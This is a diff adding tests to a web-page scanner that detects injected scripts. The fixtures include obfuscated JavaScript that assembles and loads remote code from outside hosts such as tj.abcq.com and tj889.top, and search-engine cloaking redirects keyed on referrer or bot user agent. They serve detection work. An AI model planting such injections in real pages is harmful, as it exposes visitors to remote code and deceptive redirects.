@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 
 from xuncha.model.outcome import Status
 from xuncha.testing import judge
+from xuncha_plugins.darklinks.assembling import puzzle
 from xuncha_plugins.darklinks.decoding import strings, unfolded
 from xuncha_plugins.darklinks.link_checks import scripted
 
@@ -148,3 +149,110 @@ def test_a_hostile_script_is_read_to_an_end(script):
 
 def test_strings_are_joined_and_unescaped():
     assert list(strings(r"""a='\x3ca' + "\u0020b" + '\'c'; b='d'""")) == ["<a b'c", "d"]
+
+
+def source(value):
+    return f"var s=document.createElement('script');s.src={value};document.body.appendChild(s)"
+
+
+LETTERS = "".join(f"\\x{ord(one):02x}" for one in "//tj.abcq.com/x.js")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        source("'//'+'tj.a'+'bcq.com/x.js'"),
+        source(f"'{LETTERS}'"),
+        source("['//tj','.ab','cq.com','/x.js'].join('')"),
+        source("'sj.x/moc.qcba.jt//'.split('').reverse().join('')"),
+        source("'//tj#.abcq.com/x.js'.replace('#','')"),
+        source("String.fromCharCode(47,47,116,106,46,97,98,99,113,46,99,111,109,47,120)"),
+        "var a='//tj.a',b='bcq.com';" + source("''+a+b+'/x.js'"),
+        f"var _0x1a=['\\x73\\x63\\x72\\x69\\x70\\x74','{LETTERS}'];" + source("_0x1a[1]"),
+        f"var _0x=['createElement','script','src','{LETTERS}'];var e=document[_0x[0]](_0x[1]);e[_0x[2]]=_0x[3];",
+        source("_0x3f2a('0x1')"),
+    ],
+)
+def test_what_loads_an_address_made_of_pieces_is_asked_about(page, plants, script):
+    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
+    assert [(found.key, found.status) for found in outcome.findings] == [("assembled", Status.MANUAL)]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        r"""window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]('<script src="https://www.\x74\x6a\x38\x38\x39.top/t.js"></'+'script>')""",
+        source("'//js.t'+'j889.top/t.js'"),
+        source("['//js.tj','889.top/t.js'].join('')"),
+    ],
+)
+def test_where_the_name_is_odd_as_well_it_is_a_hint(page, plants, script):
+    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
+    assert [(found.key, found.status) for found in outcome.findings] == [("writes", Status.WARN)]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        source("'//'+'www.'+'sl-tongji.com'+'/t.js'"),
+        source("('https:'==location.protocol?'https://':'http://')+'kf.sl-kefu.com/t.js'"),
+        source("'https://hm.ba'+'idu.com/hm.js?1'"),
+        source("base+['a','b'].join('/')+'.js'"),
+        r"document.write('\x3Cscript src=\x22//cdn.sl-tongji.com/t.js\x22>\x3C/script>')",
+        "document.write('<scr'+'ipt src=\"http://kf.sl-kefu.com/t.js\"></scr'+'ipt>')",
+        "var s='中\\u6587'+'//';" + source("'/js/a.js'"),
+        "var u='http://www.a'+'bc.com/list';$('#more').attr('href',u)",
+    ],
+)
+def test_how_honest_scripts_load_is_no_question(page, plants, script):
+    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "a0='x';" + "".join(f"a{at + 1}=''+a{at}+a{at};" for at in range(150)),
+        source("[" * 3_000),
+        source("(" * 3_000),
+        source("'a'.replace('a','" + "b" * 3_000 + "')" + ".replace('b','" + "c" * 900 + "')"),
+        source("'" + "a" * 900 + "'.split('').join('" + "b" * 900 + "')") * 60,
+    ],
+)
+def test_a_hostile_puzzle_is_read_to_an_end(script):
+    assert puzzle(script).addresses == ()
+
+
+@given(st.text(alphabet="ab'\"+.[](),=;0x\\src ", max_size=200))
+def test_any_puzzle_is_read_to_an_end(text):
+    assert isinstance(puzzle(source(text)).unsolved, bool)
+
+
+ENGINES = "if(document.referrer&&/so\\.com|baidu/.test(document.referrer)){sessionStorage.f=1}"
+ROBOT = "var isBot=/baiduspider|googlebot/i.test(navigator.userAgent);"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{ENGINES} function goBack(){{location.href='https://www.sl-rm.com/list'}}",
+        f"{ROBOT}if(!isBot&&/Mobile/i.test(navigator.userAgent)){{location.href='https://m.sl-rm.com/'}}",
+        "if(!/spider|bot/i.test(navigator.userAgent)&&/Mobile/.test(navigator.userAgent))location='https://m.sl-rm.com/'",
+    ],
+)
+def test_functions_that_wait_and_robots_that_are_spared_are_no_hint(page, plants, script):
+    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{ENGINES} function go(){{location.href='https://www.sl-rm.com/list'}} go()",
+        f"{ENGINES} function go(){{location.href='https://www.sl-rm.com/list'}} setTimeout('go()',9)",
+        "function go(){if(/baidu/.test(document.referrer))location.href='https://www.sl-rm.com/list'}",
+        f"{ROBOT}if(isBot){{location.href='https://m.sl-rm.com/'}}",
+        f"{ROBOT}if(!isBot&&/baidu/.test(document.referrer)&&/Mobile/.test(navigator.userAgent))location='http://a-b.com/'",
+    ],
+)
+def test_whom_they_do_send_away_is_still_seen(page, plants, script):
+    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
+    assert [found.key for found in outcome.findings] == ["searchers"]
